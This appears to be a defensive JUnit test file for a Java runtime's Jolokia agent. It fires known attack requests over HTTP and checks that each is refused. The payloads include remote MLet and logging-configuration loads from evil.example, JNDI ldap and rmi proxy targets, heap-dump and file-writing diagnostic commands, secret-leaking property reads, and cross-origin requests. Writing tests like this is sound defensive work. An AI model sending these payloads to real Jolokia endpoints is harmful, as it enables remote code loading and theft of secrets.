package io.trimtab.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.trimtab.Trimtab;
import io.trimtab.testing.JolokiaHttp;
import io.trimtab.testing.Probe;
import io.trimtab.testing.RawHttp;
import io.trimtab.testing.RawHttp.Answer;
import java.net.URI;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Requests an attacker would send to an agent on the default policy, over real HTTP. Each is refused, and
 * after each the runtime's own reads, writes and execs still work and its state is unchanged.
 */
class JolokiaAttackTest {

    private static final String PROBE = "test.attack:type=Probe,name=probe";
    private static final String DIAG = "com.sun.management:type=DiagnosticCommand";
    private static final String HOTSPOT = "com.sun.management:type=HotSpotDiagnostic";
    private static final Map<String, String> JSON = Map.of("Content-Type", "application/json");

    @TempDir
    static Path dataDir;
    private static Trimtab trimtab;
    private static URI url;
    private static Probe probe;

    /** One attack: what is sent and how. */
    record Attack(String name, String method, String path, String body, Map<String, String> headers, boolean chunked) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Attack get(String name, String path) {
        return new Attack(name, "GET", path, null, Map.of(), false);
    }

    private static Attack post(String name, String body) {
        return new Attack(name, "POST", "", body, JSON, false);
    }

    private static Attack withHeaders(String name, String method, String path, String body, Map<String, String> headers) {
        return new Attack(name, method, path, body, headers, false);
    }

    private static String exec(String mbean, String operation, String arguments) {
        return "{\"type\":\"exec\",\"mbean\":\"" + mbean + "\",\"operation\":\"" + operation + "\",\"arguments\":[" + arguments + "]}";
    }

    private static String read(String mbean, String attribute) {
        return "{\"type\":\"read\",\"mbean\":\"" + mbean + "\",\"attribute\":\"" + attribute + "\"}";
    }

    private static String withTarget(String request, String targetUrl) {
        return request.substring(0, request.length() - 1) + ",\"target\":{\"url\":\"" + targetUrl + "\"}}";
    }

    static Stream<Attack> attacks() {
        List<Attack> attacks = new ArrayList<>();
        // Exec and write on the platform beans that attacks use.
        attacks.add(get("GET exec DiagnosticCommand vmSystemProperties", "exec/" + DIAG + "/vmSystemProperties"));
        attacks.add(post("POST exec DiagnosticCommand vmLog writes a file", exec(DIAG, "vmLog", "[\"output=/tmp/trimtab-attack.log\"]")));
        attacks.add(post("POST exec DiagnosticCommand jfrStart", exec(DIAG, "jfrStart", "[\"filename=/tmp/trimtab-attack.jfr\"]")));
        attacks.add(post("POST exec DiagnosticCommand compilerDirectivesAdd", exec(DIAG, "compilerDirectivesAdd", "[\"/tmp/x.json\"]")));
        attacks.add(post("POST exec HotSpotDiagnostic dumpHeap", exec(HOTSPOT, "dumpHeap", "\"/tmp/trimtab-attack.hprof\",true")));
        attacks.add(get("GET exec HotSpotDiagnostic setVMOption", "exec/" + HOTSPOT + "/setVMOption/HeapDumpOnOutOfMemoryError/true"));
        attacks.add(get("GET read HotSpotDiagnostic DiagnosticOptions", "read/" + HOTSPOT + "/DiagnosticOptions"));
        attacks.add(post("POST exec FlightRecorder newRecording", exec("jdk.management.jfr:type=FlightRecorder", "newRecording", "")));
        attacks.add(get("GET read FlightRecorder Recordings", "read/jdk.management.jfr:type=FlightRecorder/Recordings"));
        attacks.add(post("POST exec MLet getMBeansFromURL", exec("javax.management.loading:type=MLet", "getMBeansFromURL", "\"http://evil.example/mlet\"")));
        attacks.add(post("POST exec MLet creation through the delegate", exec("JMImplementation:type=MBeanServerDelegate", "createMBean", "\"javax.management.loading.MLet\",\"x:type=MLet\"")));
        attacks.add(get("GET read JMImplementation MBeanServerId", "read/JMImplementation:type=MBeanServerDelegate/MBeanServerId"));
        attacks.add(post("POST exec logback reloadByURL", exec("ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator", "reloadByURL", "\"http://evil.example/logback.xml\"")));
        attacks.add(post("POST write log4j2 ConfigLocationUri", "{\"type\":\"write\",\"mbean\":\"org.apache.logging.log4j2:type=x\",\"attribute\":\"ConfigLocationUri\",\"value\":\"http://evil.example/l.xml\"}"));
        attacks.add(post("POST exec Tomcat MBeanFactory createStandardContext", exec("Catalina:type=MBeanFactory", "createStandardContext", "\"Catalina:type=Host,host=localhost\",\"/evil\",\"/tmp\"")));
        attacks.add(get("GET exec Memory gc", "exec/java.lang:type=Memory/gc"));
        attacks.add(post("POST write Memory Verbose", "{\"type\":\"write\",\"mbean\":\"java.lang:type=Memory\",\"attribute\":\"Verbose\",\"value\":true}"));
        attacks.add(get("GET exec Logging setLoggerLevel", "exec/java.util.logging:type=Logging/setLoggerLevel/global/FINEST"));
        attacks.add(get("GET exec Jolokia's own Config bean", "exec/jolokia:type=Config,agent=x/resetHistoryEntries"));
        attacks.add(get("GET write Threading ThreadContentionMonitoringEnabled", "write/java.lang:type=Threading/ThreadContentionMonitoringEnabled/true"));
        // Reads of denied attributes, directly and around the corner.
        attacks.add(get("GET read Runtime SystemProperties", "read/java.lang:type=Runtime/SystemProperties"));
        attacks.add(get("GET read Runtime InputArguments", "read/java.lang:type=Runtime/InputArguments"));
        attacks.add(get("GET read a path inside SystemProperties", "read/java.lang:type=Runtime/SystemProperties/java.home"));
        attacks.add(post("POST read Runtime SystemProperties", read("java.lang:type=Runtime", "SystemProperties")));
        attacks.add(post("POST read SystemProperties in an attribute list", "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":[\"Uptime\",\"SystemProperties\"]}"));
        attacks.add(post("POST exec DiagnosticCommand vmSystemProperties", exec(DIAG, "vmSystemProperties", "")));
        // Proxy mode: the agent must open no connection anywhere.
        attacks.add(post("proxy read with an ldap target", withTarget(read("java.lang:type=Memory", "HeapMemoryUsage"), "service:jmx:rmi:///jndi/ldap://evil.example:1389/x")));
        attacks.add(post("proxy read with an rmi target", withTarget(read("java.lang:type=Memory", "HeapMemoryUsage"), "service:jmx:rmi:///jndi/rmi://evil.example:1099/jmxrmi")));
        attacks.add(post("proxy read with an http target", withTarget(read("java.lang:type=Memory", "HeapMemoryUsage"), "http://evil.example/jolokia")));
        attacks.add(post("proxy target in options", "{\"type\":\"version\",\"options\":{\"target\":{\"url\":\"service:jmx:rmi:///jndi/ldap://evil.example/x\"}}}"));
        attacks.add(post("proxy target in one bulk item", "[" + read(PROBE, "Limit") + "," + withTarget(read("java.lang:type=Memory", "Used"), "service:jmx:rmi:///jndi/ldap://evil.example/x") + "]"));
        attacks.add(withHeaders("proxy target hidden in another charset", "POST", "",
                withTarget(read("java.lang:type=Memory", "Used"), "service:jmx:rmi:///jndi/ldap://evil.example/x"),
                Map.of("Content-Type", "application/json; charset=UTF-16")));
        // Bulk with one forbidden item inside.
        attacks.add(post("bulk with a DiagnosticCommand exec inside", "[" + read(PROBE, "Limit") + "," + exec(DIAG, "vmSystemProperties", "") + "," + read("java.lang:type=Memory", "HeapMemoryUsage") + "]"));
        attacks.add(post("bulk with a SystemProperties read inside", "[" + read(PROBE, "Limit") + "," + read("java.lang:type=Runtime", "SystemProperties") + "]"));
        // Name tricks: escaping, URL encoding, quoting, patterns.
        attacks.add(get("path in the p query parameter", "?p=/exec/" + DIAG + "/vmSystemProperties"));
        attacks.add(get("URL-encoded DiagnosticCommand exec", "exec/com.sun.management%3Atype%3DDiagnosticCommand/vmSystemProperties"));
        attacks.add(get("URL-encoded SystemProperties read", "read/java.lang%3Atype%3DRuntime/System%50roperties"));
        attacks.add(get("escaped slashes in a vmLog argument", "exec/" + DIAG + "/vmLog/output=!/tmp!/trimtab-attack.log"));
        attacks.add(get("escaped slash trick before the attribute", "read/java.lang:type=Runtime!//SystemProperties"));
        attacks.add(get("quoted key value", "read/java.lang:type=%22Runtime%22/SystemProperties"));
        attacks.add(get("exec on a pattern of DiagnosticCommand", "exec/com.sun.management:type=Diagnostic*/vmSystemProperties"));
        attacks.add(get("exec on every bean of a domain", "exec/com.sun.management:*/dumpHeap/%2Ftmp%2Fx.hprof/true"));
        attacks.add(post("exec on a wildcard domain", exec("*:type=DiagnosticCommand", "vmSystemProperties", "")));
        attacks.add(get("read SystemProperties through a pattern", "read/java.lang:type=Runt*/SystemProperties"));
        attacks.add(get("exec on the runtime's domain by pattern on a foreign one", "exec/test.attack*:type=Probe,*/add/1/2"));
        // Malformed requests.
        attacks.add(post("malformed JSON", "{\"type\":\"read\","));
        attacks.add(post("JSON that is not a request", "\"read\""));
        attacks.add(post("unknown request type", "{\"type\":\"create\",\"mbean\":\"javax.management.loading:type=MLet\"}"));
        attacks.add(post("request without type", "{\"mbean\":\"" + PROBE + "\"}"));
        attacks.add(get("invalid JSONP callback", "read/java.lang:type=Memory/HeapMemoryUsage?callback=alert(document.cookie)//"));
        attacks.add(get("HTML as answer type", "read/java.lang:type=Memory/HeapMemoryUsage?mimeType=text/html"));
        attacks.add(post("invalid value for the runtime's own setting", "{\"type\":\"write\",\"mbean\":\"" + PROBE + "\",\"attribute\":\"Limit\",\"value\":0}"));
        // Oversized bodies.
        attacks.add(post("body over 256 KiB", "[" + ",".repeat(0) + "{\"type\":\"version\",\"x\":\"" + "a".repeat(300 * 1024) + "\"}]"));
        attacks.add(new Attack("chunked body over 256 KiB", "POST", "", "{\"type\":\"version\",\"x\":\"" + "a".repeat(300 * 1024) + "\"}", JSON, true));
        attacks.add(post("bulk of 201 requests", "[" + String.join(",", java.util.Collections.nCopies(201, "{\"type\":\"version\"}")) + "]"));
        // Wrong methods.
        attacks.add(withHeaders("PUT", "PUT", "read/" + PROBE + "/Limit", "{}", JSON));
        attacks.add(withHeaders("DELETE", "DELETE", "read/" + PROBE + "/Limit", null, Map.of()));
        attacks.add(withHeaders("PATCH", "PATCH", "", read(PROBE, "Limit"), JSON));
        // Browsers on foreign pages.
        attacks.add(withHeaders("foreign Origin reads", "GET", "read/" + PROBE + "/Limit", null, Map.of("Origin", "http://evil.example")));
        attacks.add(withHeaders("foreign Origin writes with a simple POST", "POST", "",
                "{\"type\":\"write\",\"mbean\":\"" + PROBE + "\",\"attribute\":\"Limit\",\"value\":99}", Map.of("Origin", "http://evil.example", "Content-Type", "text/plain")));
        attacks.add(withHeaders("foreign Origin preflight", "OPTIONS", "", null, Map.of("Origin", "http://evil.example", "Access-Control-Request-Method", "POST")));
        attacks.add(withHeaders("sandboxed iframe (Origin null)", "POST", "", exec(PROBE, "add", "1,2"), Map.of("Origin", "null")));
        attacks.add(withHeaders("foreign Referer, no Origin", "GET", "exec/" + PROBE + "/add/1/2", null, Map.of("Referer", "http://evil.example/page.html")));
        attacks.add(withHeaders("cross-site image without Origin or Referer", "GET", "write/" + PROBE + "/Limit/99", null, Map.of("Sec-Fetch-Site", "cross-site")));
        attacks.add(withHeaders("same-site page on another port", "GET", "write/" + PROBE + "/Limit/99", null, Map.of("Sec-Fetch-Site", "same-site")));
        attacks.add(withHeaders("foreign Origin on the config context", "POST", "config", exec(PROBE, "add", "1,2"), Map.of("Origin", "http://evil.example")));
        attacks.add(withHeaders("exec DiagnosticCommand through the config context", "POST", "config", exec(DIAG, "vmSystemProperties", ""), JSON));
        return attacks.stream();
    }

    @BeforeAll
    static void start() throws Exception {
        trimtab = Trimtab.builder().name("attack").jmxDomain("test.attack").dataDir(dataDir).jolokiaPort(0).start();
        url = trimtab.jolokiaUrl().orElseThrow();
        probe = new Probe();
        Probe.register(trimtab, probe);
    }

    @AfterAll
    static void stop() throws Exception {
        trimtab.close();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void isRefused(Attack attack) {
        Answer answer = RawHttp.send(url, attack.method(), attack.path(), attack.body(), attack.headers(), attack.chunked());
        assertTrue(answer.refused(), attack + " answered HTTP " + answer.status() + ": " + abbreviate(answer.body()));
        assertFalse(answer.body().contains("\tat "), "a stack trace in " + answer.body());
        assertFalse(answer.body().contains("error_type"), "an exception class in " + answer.body());
    }

    @AfterEach
    void theRuntimesOwnRequestsStillWork() {
        JolokiaHttp jolokia = new JolokiaHttp(url);
        assertEquals(10, ((Number) jolokia.read(PROBE, "Limit")).intValue(), "the attack changed the setting");
        assertEquals(200, status(jolokia.post("{\"type\":\"write\",\"mbean\":\"" + PROBE + "\",\"attribute\":\"Limit\",\"value\":20}")));
        assertEquals(20, ((Number) jolokia.read(PROBE, "Limit")).intValue());
        assertEquals(200, status(jolokia.post("{\"type\":\"write\",\"mbean\":\"" + PROBE + "\",\"attribute\":\"Limit\",\"value\":10}")));
        Map<String, Object> sum = jolokia.get("exec/" + PROBE + "/add/2/3");
        assertEquals(5, ((Number) sum.get("value")).intValue(), sum.toString());
    }

    @Test
    void aLongListIsCutAtTheLimitWhateverTheRequestAsksFor() {
        for (String path : List.of("read/" + PROBE + "/Numbers", "read/" + PROBE + "/Numbers?maxCollectionSize=100000")) {
            Answer answer = RawHttp.send(url, "GET", path, null, Map.of(), false);
            List<?> numbers = (List<?>) ((Map<?, ?>) JolokiaHttp.parse(answer.body())).get("value");
            assertEquals(1000, numbers.size(), path);
        }
    }

    @Test
    void aFullListStillReachesTheParameterDescriptionsOfTheRuntimesBeans() {
        Map<?, ?> answer = (Map<?, ?>) JolokiaHttp.parse(RawHttp.send(url, "GET", "list", null, Map.of(), false).body());
        Map<?, ?> probeInfo = (Map<?, ?>) ((Map<?, ?>) ((Map<?, ?>) answer.get("value")).get("test.attack")).get("type=Probe,name=probe");
        Map<?, ?> add = (Map<?, ?>) ((Map<?, ?>) probeInfo.get("op")).get("add");
        assertEquals("first summand", ((Map<?, ?>) ((List<?>) add.get("args")).get(0)).get("desc"));
    }

    @Test
    void proxyModeIsNotOnTheClasspath() {
        org.junit.jupiter.api.Assertions.assertThrows(ClassNotFoundException.class,
                () -> Class.forName("org.jolokia.service.jsr160.Jsr160RequestHandler"));
    }

    @Test
    void readingEveryAttributeOfRuntimeLeavesTheSecretsOut() {
        System.setProperty("attack.secret", "hunter2-in-a-system-property");
        try {
            Answer answer = RawHttp.send(url, "GET", "read/java.lang:type=Runtime?ignoreErrors=true", null, Map.of(), false);
            Map<?, ?> value = (Map<?, ?>) ((Map<?, ?>) JolokiaHttp.parse(answer.body())).get("value");
            assertTrue(value.containsKey("Uptime"), answer.body());
            assertEquals(true, ((Map<?, ?>) value.get("SystemProperties")).get(".error"), answer.body());
            assertEquals(true, ((Map<?, ?>) value.get("InputArguments")).get(".error"), answer.body());
            assertFalse(answer.body().contains("hunter2"), answer.body());
            assertFalse(answer.body().contains("error_type"), answer.body());
        } finally {
            System.clearProperty("attack.secret");
        }
    }

    @Test
    void inABulkOnlyTheForbiddenItemIsRefused() {
        Answer answer = RawHttp.send(url, "POST", "", "[" + read(PROBE, "Limit") + "," + exec(DIAG, "vmSystemProperties", "")
                + "," + read("java.lang:type=Memory", "HeapMemoryUsage") + "]", JSON, false);
        List<?> answers = (List<?>) JolokiaHttp.parse(answer.body());
        assertEquals(List.of(200, 403, 200), answers.stream().map(a -> status((Map<?, ?>) a)).toList());
    }

    @Test
    void aTooLargeBulkOrBodyIsRefusedWithTheLimit() {
        Answer bulk = RawHttp.send(url, "POST", "", "[" + String.join(",", java.util.Collections.nCopies(201, "{\"type\":\"version\"}")) + "]", JSON, false);
        assertEquals(413, bulk.status());
        assertEquals("Bulk request of 201 requests exceeds the limit of 200", ((Map<?, ?>) JolokiaHttp.parse(bulk.body())).get("error"));
        Answer big = RawHttp.send(url, "POST", "", "x".repeat(300 * 1024), JSON, false);
        assertEquals(413, big.status());
        assertEquals("Request body of 307200 bytes exceeds the limit of 262144 bytes", ((Map<?, ?>) JolokiaHttp.parse(big.body())).get("error"));
    }

    private static int status(Map<?, ?> answer) {
        return ((Number) answer.get("status")).intValue();
    }

    private static String abbreviate(String body) {
        return body.length() > 400 ? body.substring(0, 400) + "..." : body;
    }
}
